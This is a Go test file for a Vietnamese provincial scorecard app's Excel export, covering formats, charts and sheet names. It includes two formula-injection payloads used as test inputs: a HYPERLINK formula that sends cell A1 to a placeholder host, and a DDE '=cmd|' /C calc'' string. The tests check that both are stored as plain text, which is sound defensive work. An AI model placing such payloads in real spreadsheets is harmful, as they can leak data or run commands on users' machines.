package export_test

import (
	"archive/zip"
	"bytes"
	"io"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"scorecard/export"
	"scorecard/scoring"
)

const hostile = `=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")`

// april scores the demo's 04/2024 and 03/2024, with one agency renamed to
// a formula so every writer must keep it as text.
func april(t *testing.T) (*scoring.Engine, *scoring.PeriodScores, *scoring.PeriodScores) {
	t.Helper()
	schemes, ds := demoData(t)
	for i := range ds.Units {
		if ds.Units[i].Code == "BK.STC" {
			ds.Units[i].Name = hostile
		}
	}
	e := scoring.NewEngine(schemes, ds)
	return e, e.Score(scoring.MustPeriod("2024-04")), e.Score(scoring.MustPeriod("2024-03"))
}

func openXLSX(t *testing.T, wb export.Workbook) (*excelize.File, []byte) {
	t.Helper()
	var buf bytes.Buffer
	if err := wb.WriteXLSX(&buf); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatalf("the workbook does not open: %v", err)
	}
	t.Cleanup(func() { f.Close() })
	return f, buf.Bytes()
}

func cell(col, row int) string {
	n, _ := excelize.CoordinatesToCellName(col, row)
	return n
}

// number asserts that a cell is stored as a number (not a string) and
// returns its raw value.
func number(t *testing.T, f *excelize.File, sheet, ref string) float64 {
	t.Helper()
	typ, err := f.GetCellType(sheet, ref)
	if err != nil {
		t.Fatal(err)
	}
	if typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
		t.Fatalf("%s!%s has type %v, want a number", sheet, ref, typ)
	}
	raw, err := f.GetCellValue(sheet, ref, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	v, err := strconv.ParseFloat(raw, 64)
	if err != nil {
		t.Fatalf("%s!%s = %q is not a number", sheet, ref, raw)
	}
	return v
}

func numFmt(t *testing.T, f *excelize.File, sheet, ref string) (int, string) {
	t.Helper()
	id, err := f.GetCellStyle(sheet, ref)
	if err != nil {
		t.Fatal(err)
	}
	st, err := f.GetStyle(id)
	if err != nil {
		t.Fatal(err)
	}
	custom := ""
	if st.CustomNumFmt != nil {
		custom = *st.CustomNumFmt
	}
	return st.NumFmt, custom
}

func columnOf(t *testing.T, f *excelize.File, sheet, title string) int {
	t.Helper()
	rows, err := f.GetRows(sheet)
	if err != nil || len(rows) == 0 {
		t.Fatalf("%s: %v", sheet, err)
	}
	for i, h := range rows[0] {
		if h == title {
			return i + 1
		}
	}
	t.Fatalf("%s: no column %q in %q", sheet, title, rows[0])
	return 0
}

func TestRankingWorkbookRoundTrip(t *testing.T) {
	_, cur, prev := april(t)
	exported := time.Date(2024, 5, 5, 9, 30, 0, 0, scoring.Location)
	meta := export.Meta{ExportedAt: exported, Source: "Văn phòng UBND tỉnh Bắc Kạn",
		Filters: []export.Filter{{Name: "Loại đơn vị", Value: "Sở, ban, ngành"}, {Name: "Tỉnh", Value: "=cmd|' /C calc'!A0"}}}
	wb := export.RankingWorkbook(cur, prev, scoring.KindAgency, "BK", meta)
	f, raw := openXLSX(t, wb)

	sheet := "Xếp hạng sở, ban, ngành"
	if got := f.GetSheetList(); len(got) != 2 || got[0] != export.InfoSheet || got[1] != sheet {
		t.Fatalf("sheets %q, want [Thông tin, %s]", got, sheet)
	}

	// The information sheet records period, filters, scheme and time.
	info, err := f.GetRows(export.InfoSheet)
	if err != nil {
		t.Fatal(err)
	}
	infoText := map[string]string{}
	infoRow := map[string]int{}
	for i, r := range info {
		if len(r) >= 2 {
			infoText[r[0]] = r[1]
			infoRow[r[0]] = i + 1
		}
	}
	if infoText["Kỳ"] != "Tháng 04/2024 (2024-04)" {
		t.Errorf("period %q", infoText["Kỳ"])
	}
	if infoText["Bộ lọc: Loại đơn vị"] != "Sở, ban, ngành" {
		t.Errorf("filters %v", infoText)
	}
	if typ, _ := f.GetCellType(export.InfoSheet, cell(2, infoRow["Bộ lọc: Tỉnh"])); typ != excelize.CellTypeSharedString {
		t.Errorf("a filter value starting with = is stored as %v, want a string", typ)
	}
	if !strings.HasPrefix(infoText["Phiên bản bộ chỉ số"], "qd766") || !strings.Contains(infoText["Phiên bản bộ chỉ số"], "01/07/2022") {
		t.Errorf("scheme %q", infoText["Phiên bản bộ chỉ số"])
	}
	if infoText["Thời điểm xuất (ISO 8601)"] != "2024-05-05T09:30:00+07:00" {
		t.Errorf("export time %q", infoText["Thời điểm xuất (ISO 8601)"])
	}
	at := cell(2, infoRow["Thời điểm xuất (giờ Việt Nam)"])
	if v := number(t, f, export.InfoSheet, at); v < 45417.39 || v > 45417.40 { // 05/05/2024 09:30 as a serial
		t.Errorf("export time serial %v, want 45417.396 (09:30 Vietnam time)", v)
	}
	if _, custom := numFmt(t, f, export.InfoSheet, at); custom != "dd/mm/yyyy hh:mm" {
		t.Errorf("export time format %q", custom)
	}

	// Every ranked row: numbers as numbers with their formats.
	rk := cur.Ranking(scoring.KindAgency, "BK", prev)
	cRank, cName, cTotal := columnOf(t, f, sheet, "Hạng"), columnOf(t, f, sheet, "Tên đơn vị"), columnOf(t, f, sheet, "Tổng điểm")
	cBand, cChange := columnOf(t, f, sheet, "Xếp loại"), columnOf(t, f, sheet, "Thay đổi tổng điểm")
	cGroup := columnOf(t, f, sheet, "Mức độ hài lòng (18)")
	sawNegative, sawHostile := false, false
	for i, r := range rk {
		row := i + 2
		if got := number(t, f, sheet, cell(cRank, row)); int(got) != r.Rank {
			t.Errorf("row %d rank %v, want %d", row, got, r.Rank)
		}
		if got := number(t, f, sheet, cell(cTotal, row)); got != r.Total.Float() {
			t.Errorf("row %d total %v, want %s", row, got, r.Total)
		}
		if got := number(t, f, sheet, cell(cGroup, row)); got != r.Group("MDHL").Score.Float() {
			t.Errorf("row %d satisfaction %v", row, got)
		}
		name, _ := f.GetCellValue(sheet, cell(cName, row))
		if name != r.Unit.Name {
			t.Errorf("row %d name %q, want %q", row, name, r.Unit.Name)
		}
		if r.Unit.Code == "BK.STC" {
			sawHostile = true
			typ, _ := f.GetCellType(sheet, cell(cName, row))
			formula, _ := f.GetCellFormula(sheet, cell(cName, row))
			if typ != excelize.CellTypeSharedString || formula != "" || name != hostile {
				t.Errorf("the formula-named unit is %v %q (formula %q), want the text itself", typ, name, formula)
			}
		}
		band, _ := f.GetCellValue(sheet, cell(cBand, row))
		if band != r.Band.NameVI {
			t.Errorf("row %d band %q, want %q", row, band, r.Band.NameVI)
		}
		if id, _ := f.GetCellStyle(sheet, cell(cBand, row)); true {
			st, _ := f.GetStyle(id)
			if len(st.Fill.Color) == 0 {
				t.Errorf("row %d: band %q has no fill", row, band)
			}
		}
		if r.TotalChange != nil && *r.TotalChange < 0 {
			sawNegative = true
			if got := number(t, f, sheet, cell(cChange, row)); got != r.TotalChange.Float() || got >= 0 {
				t.Errorf("row %d change %v, want %s as a negative number", row, got, r.TotalChange)
			}
		}
	}
	if !sawNegative || !sawHostile {
		t.Fatalf("fixture: negative change %v, formula-named unit %v", sawNegative, sawHostile)
	}
	// Fills differ between bands: Xuất sắc and Tốt are told apart by colour
	// as well as by name.
	fill := func(row int) string {
		id, _ := f.GetCellStyle(sheet, cell(cBand, row))
		st, _ := f.GetStyle(id)
		return strings.Join(st.Fill.Color, ",")
	}
	if fill(2) == fill(len(rk)+1) || rk[0].Band.Code == rk[len(rk)-1].Band.Code {
		t.Errorf("first and last bands %s/%s share the fill %s", rk[0].Band.Code, rk[len(rk)-1].Band.Code, fill(2))
	}

	if id, _ := numFmt(t, f, sheet, cell(cTotal, 2)); id != 4 {
		t.Errorf("total format %d, want 4 (#,##0.00)", id)
	}
	if id, _ := numFmt(t, f, sheet, cell(cRank, 2)); id != 3 {
		t.Errorf("rank format %d, want 3 (#,##0)", id)
	}
	panes, err := f.GetPanes(sheet)
	if err != nil || !panes.Freeze || panes.YSplit != 1 || panes.TopLeftCell != "A2" {
		t.Errorf("panes %+v (%v), want the header row frozen", panes, err)
	}
	if w, _ := f.GetColWidth(sheet, "C"); w < 20 {
		t.Errorf("name column width %v, want it fitted to the names", w)
	}

	// A native bar chart of the totals of the ranked rows.
	zr, err := zip.NewReader(bytes.NewReader(raw), int64(len(raw)))
	if err != nil {
		t.Fatal(err)
	}
	var chart string
	for _, zf := range zr.File {
		if strings.HasPrefix(zf.Name, "xl/charts/chart") {
			rc, _ := zf.Open()
			b, _ := io.ReadAll(rc)
			rc.Close()
			chart = string(b)
		}
	}
	totalCol, _ := excelize.ColumnNumberToName(cTotal)
	wantRange := "$" + totalCol + "$2:$" + totalCol + "$" + strconv.Itoa(len(rk)+1)
	if !strings.Contains(chart, "<barChart>") || !strings.Contains(chart, `<barDir val="bar">`) || !strings.Contains(chart, wantRange) {
		t.Errorf("no bar chart of %s in the workbook:\n%s", wantRange, chart)
	}
}

func TestUnitWorkbookFormats(t *testing.T) {
	_, cur, prev := april(t)
	var row scoring.Ranked
	for _, r := range cur.Ranking(scoring.KindAgency, "BK", prev) {
		if r.Unit.Code == "BK.SNV" {
			row = r
		}
	}
	f, _ := openXLSX(t, export.UnitWorkbook(row, export.Meta{}))
	if got := f.GetSheetList(); strings.Join(got, "|") != "Thông tin|Tổng hợp|Nhóm chỉ số|Chỉ số" {
		t.Fatalf("sheets %q", got)
	}
	cMetric, cRatio := columnOf(t, f, "Chỉ số", "Mã chỉ số"), columnOf(t, f, "Chỉ số", "Tỷ lệ")
	cNum, cLost := columnOf(t, f, "Chỉ số", "Tử số"), columnOf(t, f, "Chỉ số", "Điểm bị trừ")
	rows, _ := f.GetRows("Chỉ số")
	found := false
	for i := 1; i < len(rows); i++ {
		code := rows[i][cMetric-1]
		m := row.Metric(code)
		if m == nil {
			t.Fatalf("row %d: unknown metric %q", i+1, code)
		}
		if code != "PUBLISH_ON_TIME" {
			continue
		}
		found = true
		// 66,67% is stored as the fraction 0.6667 with the format 0.00%.
		if got := number(t, f, "Chỉ số", cell(cRatio, i+1)); got != float64(m.Ratio)/10000 {
			t.Errorf("ratio %v, want %v", got, float64(m.Ratio)/10000)
		}
		if id, _ := numFmt(t, f, "Chỉ số", cell(cRatio, i+1)); id != 10 {
			t.Errorf("ratio format %d, want 10 (0.00%%)", id)
		}
		if got := number(t, f, "Chỉ số", cell(cNum, i+1)); int64(got) != m.Counts.Num {
			t.Errorf("numerator %v, want %d", got, m.Counts.Num)
		}
		if got := number(t, f, "Chỉ số", cell(cLost, i+1)); got != m.Lost().Float() {
			t.Errorf("lost %v, want %s", got, m.Lost())
		}
	}
	if !found || len(rows)-1 != len(row.Scheme.Metrics) {
		t.Errorf("%d metric rows, want every metric of the scheme (%d)", len(rows)-1, len(row.Scheme.Metrics))
	}
}

// Sheet names are made valid and unique whatever the table names are.
func TestSheetNames(t *testing.T) {
	cols := []export.Column{{Key: "a", Kind: export.Text}}
	wb := export.Workbook{Tables: []export.Table{
		{Name: "Thông tin", Columns: cols},
		{Name: "a/b:c*d?e[f]g\\h", Columns: cols},
		{Name: "'Một tên rất dài vượt quá ba mươi mốt ký tự của Excel'", Columns: cols},
		{Name: "'Một tên rất dài vượt quá ba mươi mốt ký tự của Excel'", Columns: cols},
		{Name: "", Columns: cols},
	}}
	f, _ := openXLSX(t, wb)
	got := f.GetSheetList()
	if len(got) != 6 || got[0] != export.InfoSheet {
		t.Fatalf("sheets %q", got)
	}
	seen := map[string]bool{}
	for _, s := range got {
		if seen[strings.ToLower(s)] || len([]rune(s)) > 31 || strings.ContainsAny(s, `:\/?*[]`) ||
			strings.HasPrefix(s, "'") || strings.HasSuffix(s, "'") {
			t.Errorf("sheet name %q is invalid or repeated", s)
		}
		seen[strings.ToLower(s)] = true
	}
}
